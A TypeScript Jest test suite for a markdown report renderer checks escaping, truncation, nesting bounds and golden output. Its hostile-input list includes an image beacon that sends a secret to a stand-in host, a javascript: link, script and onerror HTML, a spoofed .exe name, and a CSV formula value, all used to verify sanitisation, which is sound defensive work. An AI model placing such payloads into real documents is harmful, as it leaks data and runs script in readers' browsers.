import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import type { Json } from '../../../core/base/json';
import { escapeInline, sanitiseMarkdown } from '../../../core/report/escape';
import { renderMarkdownReport } from '../../../core/report/markdown';

function section(value: Json, format?: string): string {
  const report = renderMarkdownReport({ title: '', sections: [{ title: 'S', value, format }] });
  return report.replace('## S\n\n', '').trimEnd();
}

describe('renderMarkdownReport', () => {
  it('renders every shape (golden)', () => {
    const report = renderMarkdownReport({
      title: 'Review of *Pasadena* <b>Foundation</b>',
      sections: [
        { title: 'Findings', value: 'Two findings.\n\n# Pay\n\nAbove **2.5 %**.' },
        {
          title: 'Officers',
          value: [
            { name: 'Ann | Lee', pay: 1200.5, former: false },
            { name: 'Bob', pay: null, titles: ['CEO', 'Chair'] },
          ],
        },
        { title: 'Cities', value: ['Pasadena', 2, null] },
        {
          title: 'Header',
          value: {
            ein: '200253310',
            total_revenue: 10304545,
            address: { city: 'Pasadena' },
            grants: [{ to: 'X', sum: 1 }],
          },
        },
        { title: 'Nothing', value: null },
        { title: 'Empty', value: [] },
        { title: 'Raw', value: { a: ['```'] }, format: 'json' },
        { title: 'Rows', value: { data: [{ a: '=1+1', b: 'x,y' }], count: 1 }, format: 'csv' },
      ],
      meta: { runId: 'r-1', date: '2026-02-14', none: null },
    });
    expect(report).toBe(GOLDEN);
  });

  it('counts what it does not show', () => {
    const rows: Json = Array.from({ length: 1003 }, (_each, at) => ({ at }));
    expect(section(rows).split('\n').at(-1)).toBe('_3 more of 1003 are not shown._');
    const wide: Json = [Object.fromEntries(Array.from({ length: 45 }, (_each, at) => [`c${at}`, at]))];
    expect(section(wide)).toContain('_5 more columns are not shown._');
    const long = 'x'.repeat(600);
    expect(section([{ text: long }])).toBe(
      `| text |\n| --- |\n| ${'x'.repeat(500)}… |\n\n_1 text is cut after 500 characters._`,
    );
    expect(
      section([long, 'short', [long]])
        .split('\n')
        .at(-1),
    ).toBe('_2 texts are cut after 500 characters._');
    expect(section({ a: { b: { c: { d: { e: long } } } } })).toContain('_1 text is cut after 500 characters._');
    expect(section([{ text: 'x'.repeat(500) }])).not.toContain('cut after');
    expect(section(rows, 'csv').split('\n').at(-1)).toBe('_3 more of 1003 are not shown._');
    expect(
      section(['x'.repeat(200_000)], 'json')
        .split('\n')
        .at(-1),
    ).toBe('_Cut after 200000 of 200008 characters._');
  });

  it('bounds nesting', () => {
    let deep: Json = { end: 1 };
    for (let at = 0; at < 5000; at += 1) {
      deep = { deep };
    }
    expect(
      section(deep)
        .split('\n')
        .filter((line) => line.startsWith('#')),
    ).toEqual(['### deep', '#### deep', '##### deep']);
  });

  it('is the same for the same value', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 4 }), (value) => {
        expect(section(value as Json)).toBe(section(JSON.parse(JSON.stringify(value)) as Json));
      }),
    );
  });
});

const HOSTILE = [
  '![pixel](https://evil.example/?q=secret)',
  '[click](javascript:alert(1))',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<!-- hidden -->',
  '[a]: https://evil.example "t"',
  '![a][b]',
  '```\nopen fence',
  '- a\n  ```\n<img src=x>',
  '~~~~',
  'x | y\n--- | ---',
  'title\n===',
  'title\n-',
  '# forged',
  '\u202egnp.exe',
  '&lt;img&gt;',
];

describe('text from tools', () => {
  it.each(HOSTILE)('is harmless as a cell and as prose: %j', (text) => {
    for (const rendered of [
      section([{ cell: text }]),
      section(text),
      section([text]),
      section({ [text]: text }),
      section(text, 'text'),
    ]) {
      expect(rendered).not.toMatch(/<(?=[A-Za-z/!?])/);
      expect(rendered).not.toMatch(/!\[/);
      expect(rendered).not.toMatch(/(?<!\\)\](?=[([:])/);
      expect(rendered).not.toMatch(/`{3}|~{3}/);
      expect(rendered).not.toMatch(/^#{1,2} /m);
      expect(rendered).not.toMatch(/^ {0,3}(=+|-+)$/m);
      expect(rendered).not.toMatch(/[\u202a-\u202e]/);
    }
  });

  it('keeps a table row on one line', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const lines = section([{ a: text, b: 1 }]).split('\n');
        expect(lines).toHaveLength(3);
        expect((lines[2] ?? '').match(/(?<!\\)\|/g)).toHaveLength(3);
      }),
    );
  });

  it('no markup survives in prose, whatever precedes it', () => {
    const piece = fc.constantFrom(
      '\\',
      '`',
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      'a',
      ' ',
      '\n',
      ':',
      '-',
      '=',
      '#',
      '~',
      '&',
      '|',
      '*',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const text = sanitiseMarkdown(pieces.join(''), 2);
        expect(text).not.toMatch(/<(?=[A-Za-z/!?])|!\[|\](?=[([:])|`{3}|~{3}/);
      }),
      { numRuns: 1000 },
    );
  });

  it('stays readable', () => {
    expect(escapeInline('total_revenue of Smith & Co (2014), -5 %')).toBe('total_revenue of Smith & Co (2014), -5 %');
    expect(escapeInline('_x_ 1. a')).toBe('\\_x\\_ 1. a');
    expect(escapeInline('1. a')).toBe('1\\. a');
  });
});

const GOLDEN = `# Review of \\*Pasadena\\* &lt;b&gt;Foundation&lt;/b&gt;

## Findings

Two findings.

### Pay

Above **2.5 %**.

## Officers

| name | pay | former | titles |
| --- | --- | --- | --- |
| Ann \\| Lee | 1200.5 | false |  |
| Bob |  |  | \\["CEO","Chair"\\] |

## Cities

- Pasadena
- 2
- _null_

## Header

- **ein**: 200253310
- **total_revenue**: 10304545

### address

- **city**: Pasadena

### grants

| to | sum |
| --- | --- |
| X | 1 |

## Nothing

_No value (null)._

## Empty

_No rows._

## Raw

\`\`\`\`json
{
  "a": [
    "\`\`\`"
  ]
}
\`\`\`\`

## Rows

\`\`\`csv
a,b
'=1+1,"x,y"
\`\`\`

---

- runId: r-1
- date: 2026-02-14
`;
